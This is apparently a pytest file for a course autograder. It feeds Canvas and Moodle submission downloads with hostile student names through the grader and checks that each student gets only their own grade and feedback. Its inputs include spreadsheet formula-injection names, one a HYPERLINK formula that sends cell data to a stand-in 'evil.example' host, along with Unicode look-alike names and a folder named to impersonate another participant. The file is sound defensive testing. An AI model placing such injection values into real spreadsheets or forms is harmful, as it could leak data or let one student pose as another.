"""Names are data: realistic Canvas and Moodle downloads whose students chose hostile names.

Each download is built the way the LMS's own code writes it (Moodle's ``get_student_prefix`` and
``clean_filename``, Canvas's content zipper; see autograder/lms/canvas.py and moodle.py), with the
helpers of tests/test_lms_round_trip.py, and holds: Korean names at the LMS's length limits (past
the file system's 255 bytes), names that would be spreadsheet formulas, Unicode look-alikes and
zero-width characters, one name in composed and decomposed Hangul, names that become one student
id, and a name format that leaves the name part empty with a folder inside that upload named like
another participant's. Then real ``week12 grade`` (or ``week12 collect``) runs on it.

For every download: each honest student is collected and graded exactly as a plainly named
student with the same work (control students); each problem student gets their own line naming
them; the command finishes with exit status 1 and no traceback; no grade, worksheet row or
feedback page lands on anyone else; no CSV written has a formula cell.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import unicodedata
import zipfile

import pytest

from autograder.course import nbgrader_environment
from autograder.lms.roster import load_roster
from tests.conftest import copy_course
from tests.submissions import cell_scores
from tests.test_lms_round_trip import (ASSIGNMENT, NOTEBOOK, STEM, WEEK12, WRONG, _answer, _course, _grade,
                                       _moodle_accepts, _submitted, _zip)

RIGHT = None  # the worked solution's answer
LONG_GIVEN, LONG_FAMILY = "가" * 99 + "나", "김" * 100  # Moodle: 100 characters each (601 bytes in all)


def moodle_clean_filename(text: str) -> str:
    """Moodle's clean_filename (moodlelib.php, clean_param PARAM_FILE)."""
    text = re.sub(r"[\x00-\x1f\x7f&<>\"`|':\\/]", "", text)
    return "" if text in (".", "..") else text


def moodle_prefix(full_name: str, participant: str) -> str:
    """mod/assign/classes/downloader.php get_student_prefix: "_" made " ", then "_<participant id>"."""
    return moodle_clean_filename(full_name.replace("_", " ") + "_" + participant)


def canvas_name(sortable_name: str) -> str:
    """lib/content_zipper.rb: the sortable name lower-cased, only [[:word:]] kept (letters, marks,
    digits, "_")."""
    return "".join(char for char in sortable_name.lower()
                   if unicodedata.category(char)[0] in "LM" or unicodedata.category(char) in ("Nd", "Pc"))


def run_week12(course, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([WEEK12, *args], cwd=course.root, env=nbgrader_environment(), text=True,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=1800)


def formula_cells(folder) -> list[tuple[str, str]]:
    """(file, cell) of every CSV cell under ``folder`` that a spreadsheet would read as a formula:
    text starting with = + - @, a tab or a carriage return, that is not a plain number."""
    found = []
    for path in sorted(folder.rglob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell):
                    found.append((path.name, cell))
    return found


def by_participant(course, lms: str) -> dict[str, str]:
    """LMS id -> the student id it was collected under (the roster the collector kept)."""
    return {entry.lms_id: student for student, entry in load_roster(course.root).get(ASSIGNMENT, {}).items()
            if entry.lms == lms}


def not_collected_lines(output: str) -> list[str]:
    """The lines ``week12 grade`` prints, one per problem, as it collects (before its summary table)."""
    return [line for line in output.splitlines() if line.startswith("  not collected: ")]


# --- Moodle, in folders: week12 grade -------------------------------------------------------------

KIM_NFC = unicodedata.normalize("NFC", "박지호")
MOODLE = {  # participant id -> (full name as in Moodle, answer, what must happen)
    "101": ("Control Right", RIGHT, "graded"),
    "102": ("Control Wrong", WRONG, "graded"),
    "103": (f"{LONG_GIVEN} {LONG_FAMILY}", WRONG, "graded"),  # 601 bytes of name
    "104": (f"{LONG_GIVEN} {LONG_FAMILY[:-1]}이", RIGHT, "graded"),  # the same up to the last syllable
    "105": ("=1+1", RIGHT, "graded"),
    "106": ("-2+3 Park", WRONG, "graded"),
    "107": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', RIGHT, "graded"),
    "108": ("Anna Kim", RIGHT, "graded"),
    "109": ("Аnna Kim", WRONG, "graded"),  # Cyrillic А: another name, another person
    "110": ("Kim Minji", RIGHT, "refused"),
    "111": ("Kim Min\u200bji", WRONG, "refused"),  # a zero-width space: the same id as 110
    "112": (KIM_NFC, RIGHT, "refused"),
    "113": (unicodedata.normalize("NFD", KIM_NFC), WRONG, "refused"),  # decomposed Hangul: the same id
    "114": ("Choi Yuna", RIGHT, "refused"),
    "115": ("Choi-Yuna", WRONG, "refused"),  # spaces are made "-": the same id
}
EMPTY_NAME = "116"  # a name format that leaves the name part empty: "_116_assignsubmission_file/"
NEVER_HANDED_IN = ("117", "Lee Haeun")  # a folder inside 116's upload is named like theirs


@pytest.fixture(scope="module")
def moodle_hostile(tmp_path_factory):
    course = _course(tmp_path_factory, "moodle-hostile", 'c.Lms.preset = "moodle"')
    members = {f"{moodle_prefix(name, participant)}_assignsubmission_file/{NOTEBOOK}": _answer(course, answer)
               for participant, (name, answer, _) in MOODLE.items()}
    nested = f"{moodle_prefix(NEVER_HANDED_IN[1], NEVER_HANDED_IN[0])}_assignsubmission_file"
    members[f"_{EMPTY_NAME}_assignsubmission_file/{nested}/{NOTEBOOK}"] = _answer(course, RIGHT)
    (course.lms_archive(ASSIGNMENT) / "week12-homework-submissions.zip").write_bytes(_zip(members))
    return course, _grade(course)


@pytest.mark.nbgrader
@pytest.mark.sandbox
class TestMoodleHostileNames:
    def test_the_command_finishes_with_status_1_and_no_traceback(self, moodle_hostile):
        _, graded = moodle_hostile
        assert graded.returncode == 1 and "Traceback" not in graded.stdout, graded.stdout[-4000:]

    def test_every_honest_student_is_graded_as_a_control_student_with_the_same_work(self, moodle_hostile):
        course, _ = moodle_hostile
        ids = by_participant(course, "moodle")
        control = {RIGHT: cell_scores(course, ASSIGNMENT, ids["101"]), WRONG: cell_scores(course, ASSIGNMENT, ids["102"])}
        assert control[RIGHT] != control[WRONG]
        for participant, (_, answer, outcome) in MOODLE.items():
            if outcome == "graded":
                assert cell_scores(course, ASSIGNMENT, ids[participant]) == control[answer], participant
        assert cell_scores(course, ASSIGNMENT, ids[EMPTY_NAME]) == control[RIGHT]

    def test_look_alike_and_long_names_are_different_students(self, moodle_hostile):
        course, _ = moodle_hostile
        ids = by_participant(course, "moodle")
        assert len({ids[p] for p in ("103", "104", "108", "109")}) == 4
        assert all(len(ids[p]) <= 64 and len(ids[p].encode()) <= 192 for p in ids)

    def test_only_the_uploader_is_collected_for_a_folder_named_like_another_participant(self, moodle_hostile):
        course, _ = moodle_hostile
        ids = by_participant(course, "moodle")
        assert NEVER_HANDED_IN[0] not in ids
        graded = {p for p, (_, _, outcome) in MOODLE.items() if outcome == "graded"} | {EMPTY_NAME}
        assert set(ids) == graded
        assert _submitted(course) == {ids[p] for p in graded}

    def test_each_refused_participant_has_their_own_line_naming_both(self, moodle_hostile):
        _, graded = moodle_hostile
        lines = not_collected_lines(graded.stdout)
        pairs = [("110", "111"), ("112", "113"), ("114", "115")]
        for first, second in pairs:
            for this, other in ((first, second), (second, first)):
                about = [line for line in lines if line.split(": ", 2)[2].startswith(f"Moodle participant {this} ")]
                assert len(about) == 1, (this, lines)
                assert f"participant {other} " in about[0], about[0]

    def test_the_worksheet_has_exactly_the_graded_participants_and_their_grades(self, moodle_hostile):
        course, _ = moodle_hostile
        ids = by_participant(course, "moodle")
        text = (course.exports_dir / f"{ASSIGNMENT}-moodle-grading-worksheet.csv").read_text(encoding="utf-8")
        rows = {row["Identifier"]: row for row in csv.DictReader(io.StringIO(text))}
        assert set(rows) == {f"Participant {p}" for p in ids}
        for participant, student in ids.items():
            total = sum(score for score, _ in cell_scores(course, ASSIGNMENT, student).values())
            assert float(rows[f"Participant {participant}"]["Grade"]) == pytest.approx(total)

    def test_feedback_goes_to_the_graded_participants_in_names_that_fit(self, moodle_hostile):
        course, _ = moodle_hostile
        ids = by_participant(course, "moodle")
        with zipfile.ZipFile(course.exports_dir / f"{ASSIGNMENT}-moodle-feedback.zip") as packed:
            members = {name: packed.read(name) for name in packed.namelist()}
        owners = {}
        for name, page in members.items():
            assert _moodle_accepts(name) and all(len(part.encode()) <= 255 for part in name.split("/")), name
            owners[name.split("/")[0].split("_")[1]] = page
        assert set(owners) == set(ids)
        for participant, page in owners.items():
            own = course.folder("feedback", ids[participant], ASSIGNMENT) / f"{STEM}.html"
            assert page == own.read_bytes(), participant

    def test_no_exported_csv_has_a_formula_cell(self, moodle_hostile):
        course, _ = moodle_hostile
        assert formula_cells(course.exports_dir) == []
        names = {row["Full name"] for row in csv.DictReader(io.StringIO(
            (course.exports_dir / f"{ASSIGNMENT}-moodle-grading-worksheet.csv").read_text(encoding="utf-8")))}
        assert "'=1+1" in names and "'-2+3 Park" in names


# --- Canvas: week12 grade -------------------------------------------------------------------------

CANVAS = {  # user id -> (sortable name in Canvas, answer)
    "2001": ("Control, Right", RIGHT),
    "2002": ("Control, Wrong", WRONG),
    "2003": ("김" * 100 + ", " + "가" * 154, WRONG),  # 255 characters: the longest Canvas keeps
    "2004": (unicodedata.normalize("NFD", "김, 민지"), RIGHT),  # decomposed Hangul
    "2005": ("Kim, Аnna", RIGHT),  # Cyrillic А
    "2006": ("Kim, Anna", WRONG),
}
RAW_CANVAS = {  # names written as they are, as no Canvas would (a hand-made or forged download)
    "2007": ("=1+1", RIGHT),
    "2008": ("kim\u200bminji", WRONG),
}
NESTED = f"kimanna_2006_6006_x/leehaeun_2009_6009_{NOTEBOOK}"  # a folder: Canvas never writes one


@pytest.fixture(scope="module")
def canvas_hostile(tmp_path_factory):
    course = _course(tmp_path_factory, "canvas-hostile", 'c.Lms.preset = "canvas"')
    members = {f"{canvas_name(name)}_{user}_{6000 + int(user) % 1000}_{NOTEBOOK}": _answer(course, answer)
               for user, (name, answer) in CANVAS.items()}
    members.update({f"{name}_{user}_{6000 + int(user) % 1000}_{NOTEBOOK}": _answer(course, answer)
                    for user, (name, answer) in RAW_CANVAS.items()})
    members[NESTED] = _answer(course, RIGHT)
    (course.lms_archive(ASSIGNMENT) / "submissions.zip").write_bytes(_zip(members, utf8_flag=False))
    return course, _grade(course)


@pytest.mark.nbgrader
@pytest.mark.sandbox
class TestCanvasHostileNames:
    def test_the_command_finishes_with_status_1_naming_the_file_nobody_handed_in(self, canvas_hostile):
        _, graded = canvas_hostile
        assert graded.returncode == 1 and "Traceback" not in graded.stdout, graded.stdout[-4000:]
        assert any("leehaeun_2009_6009" in line for line in not_collected_lines(graded.stdout)), graded.stdout[-4000:]

    def test_every_student_is_graded_under_their_canvas_id_as_a_control_student(self, canvas_hostile):
        course, _ = canvas_hostile
        students = {**CANVAS, **RAW_CANVAS}
        assert _submitted(course) == set(students)
        control = {RIGHT: cell_scores(course, ASSIGNMENT, "2001"), WRONG: cell_scores(course, ASSIGNMENT, "2002")}
        for user, (_, answer) in students.items():
            assert cell_scores(course, ASSIGNMENT, user) == control[answer], user

    def test_the_gradebook_import_has_each_student_once_with_their_grade(self, canvas_hostile):
        course, _ = canvas_hostile
        rows = list(csv.reader(io.StringIO((course.exports_dir / "canvas-grades.csv").read_text(encoding="utf-8"))))
        by_id = {row[1]: row for row in rows[2:]}
        assert len(rows) == 2 + len(by_id) and set(by_id) == set(CANVAS) | set(RAW_CANVAS)
        for user, row in by_id.items():
            total = sum(score for score, _ in cell_scores(course, ASSIGNMENT, user).values())
            assert float(row[5]) == pytest.approx(total)
        assert by_id["2007"][0] == "'=1+1" and by_id["2003"][0] == canvas_name(CANVAS["2003"][0])

    def test_feedback_folders_fit_and_name_each_student_by_their_id(self, canvas_hostile):
        course, _ = canvas_hostile
        with zipfile.ZipFile(course.exports_dir / f"{ASSIGNMENT}-canvas-feedback.zip") as packed:
            members = {name: packed.read(name) for name in packed.namelist()}
        owners = {}
        for name, page in members.items():
            folder = name.split("/")[0]
            assert len(folder.encode()) <= 255, name
            owners[folder.rsplit("_", 1)[1]] = page
        assert set(owners) == set(CANVAS) | set(RAW_CANVAS)
        for user, page in owners.items():
            assert page == (course.folder("feedback", user, ASSIGNMENT) / f"{STEM}.html").read_bytes()

    def test_no_exported_csv_has_a_formula_cell(self, canvas_hostile):
        course, _ = canvas_hostile
        assert formula_cells(course.exports_dir) == []


# --- Moodle, flat: week12 collect ------------------------------------------------------------------

FLAT = {  # participant id -> (full name, what must happen)
    "301": (f"{LONG_GIVEN} {LONG_FAMILY}", "collected"),
    "302": ("@SUM(1+1)", "collected"),
    "303": (KIM_NFC, "refused"),
    "304": (unicodedata.normalize("NFD", KIM_NFC), "refused"),
}


@pytest.mark.nbgrader
def test_a_flat_moodle_download_of_hostile_names_is_collected_for_everyone_else(tmp_path_factory):
    course = _course(tmp_path_factory, "moodle-flat-hostile", 'c.Lms.preset = "moodle"')
    members = {f"{moodle_prefix(name, participant)}_assignsubmission_file_{NOTEBOOK}": _answer(course)
               for participant, (name, _) in FLAT.items()}
    members[f"_305_assignsubmission_file_{NOTEBOOK}"] = _answer(course)
    (course.lms_archive(ASSIGNMENT) / "download.zip").write_bytes(_zip(members))
    collected = run_week12(course, "collect", ASSIGNMENT)
    assert collected.returncode == 1 and "Traceback" not in collected.stdout, collected.stdout[-4000:]
    ids = by_participant(course, "moodle")
    assert set(ids) == {"301", "302", "305"} and _submitted(course) == set(ids.values())
    assert ids["305"] == "participant-305"
    refusals = [line for line in collected.stdout.splitlines() if "name_collision" in line]
    assert len(refusals) == 2 and all("participant 303 " in line and "participant 304 " in line for line in refusals)


# --- nbgrader's grades CSV: nbgrader export -----------------------------------------------------------

@pytest.mark.nbgrader
def test_nbgrader_export_writes_nbgraders_file_with_names_neutralised(tmp_path):
    """The course configures nbgrader's export (c.ExportApp.plugin_class): the same file as stock
    nbgrader's for plain names, and a name that would be a formula neutralised."""
    from datetime import datetime

    from nbgrader.api import Gradebook
    from nbgrader.plugins.export import CsvExportPlugin

    course = copy_course(tmp_path / "course")
    with Gradebook(course.db_url()) as gradebook:
        gradebook.add_assignment("hw", duedate=datetime(2026, 5, 25, 14, 59))
        gradebook.add_student("s1", first_name="Minji", last_name="Kim")
        gradebook.add_submission("hw", "s1")
        gradebook.add_student("s2")
        CsvExportPlugin(to=str(tmp_path / "stock.csv")).export(gradebook)
    run_week12(course, "export", "--to", str(tmp_path / "plain.csv"))
    assert (tmp_path / "plain.csv").read_text(encoding="utf-8") == (tmp_path / "stock.csv").read_text()
    with Gradebook(course.db_url()) as gradebook:
        gradebook.update_or_create_student("s2", first_name="=1+1", last_name="-2+3, Park", email="@x")
    exported = run_week12(course, "export")
    assert exported.returncode == 0, exported.stdout[-3000:]
    rows = list(csv.DictReader(io.StringIO((course.exports_dir / "grades.csv").read_text(encoding="utf-8"))))
    s2 = next(row for row in rows if row["student_id"] == "s2")
    assert (s2["first_name"], s2["last_name"], s2["email"], s2["score"]) == ("'=1+1", "'-2+3, Park", "'@x", "0.0")
    assert formula_cells(course.exports_dir) == []
